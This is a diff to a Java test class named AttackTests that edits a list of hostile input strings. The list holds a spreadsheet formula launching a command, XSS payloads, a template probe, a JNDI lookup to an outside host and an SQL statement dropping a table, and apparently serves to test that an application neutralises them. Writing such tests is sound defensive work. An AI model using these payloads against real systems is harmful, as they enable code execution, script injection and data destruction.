@@ -41,7 +41,8 @@ class AttackTests {
 
 	private static final List<String> FORMULAS = List.of("=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3",
 			"=HYPERLINK(\"http://example.org\")", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
-			"&lt;b&gt;", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://example.org/a}", "'; drop table change; --");
+			"&lt;b&gt;", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://example.org/a}",
+			"'; drop table sspr_prefill.change; --");
 
 	private final List<String> rows = new ArrayList<>();
 
